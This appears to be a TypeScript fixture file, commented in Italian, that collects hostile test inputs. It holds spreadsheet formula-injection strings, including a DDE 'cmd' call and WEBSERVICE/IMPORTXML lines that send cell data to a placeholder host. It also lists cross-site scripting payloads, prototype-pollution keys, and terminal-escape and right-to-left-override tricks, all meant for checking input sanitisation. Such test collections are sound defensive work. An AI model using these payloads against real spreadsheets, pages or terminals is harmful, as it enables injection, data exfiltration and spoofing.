/** I testi con cui si prova a far fare a un programma ciò che non deve: gli stessi in ogni uscita. */

/** Ciò che un foglio di calcolo prenderebbe per una formula, anche con qualcosa di invisibile davanti. */
export const FORMULE = [
  '=1+1',
  '=HYPERLINK("http://example.org/"&A1;"apri")',
  '=WEBSERVICE("http://example.org/"&A1)',
  '=IMPORTXML("http://example.org";"//a")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '-2',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\u200E=1+1',
  '\u202E=1+1',
  '\u2060=1+1',
  '\u00AD=1+1',
  '\u0001=1+1',
  '\uFEFF=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹢1+1',
] as const;

/** Ciò che un browser eseguirebbe se fosse scritto nella pagina com'è. */
export const PROGRAMMI = [
  '<script>globalThis.eseguito = 1</script>',
  '<img src=x onerror="globalThis.eseguito = 1">',
  '<svg onload="globalThis.eseguito = 1"></svg>',
  '<a href="javascript:globalThis.eseguito = 1">qui</a>',
  '"><iframe srcdoc="<script>parent.eseguito = 1</script>"></iframe>',
  '\'-globalThis.eseguito-\'{{constructor.constructor("globalThis.eseguito = 1")()}}',
  '</textarea></style></title><b>grassetto</b>',
  '&lt;b&gt; già scritto così &amp;',
] as const;

/** I nomi che ogni oggetto ha già: chi li cercasse in un oggetto qualunque ne troverebbe il contenuto. */
export const PROTOTIPI = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__'];

/** Ciò che non si vede: comandi per il terminale, testo rovesciato, un allarme, una riga che si riscrive. */
export const INVISIBILI = [
  '\u001b[31mrosso\u001b[0m',
  '\u001b]0;titolo della finestra\u0007',
  '\u001b]8;;http://example.org\u0007collegamento\u001b]8;;\u0007',
  '\u009b2J cancella',
  'torna\rindietro',
  'su\u0008\u0008giù',
  'file\u202Excod.exe',
  'isolato\u2066\u2067fine',
  'segno\u061Carabo',
  'zero\u0000mezzo',
] as const;

/** Tutti insieme, per chi deve provarli uno dopo l'altro. */
export const OSTILI: readonly string[] = [...FORMULE, ...PROGRAMMI, ...PROTOTIPI, ...INVISIBILI];
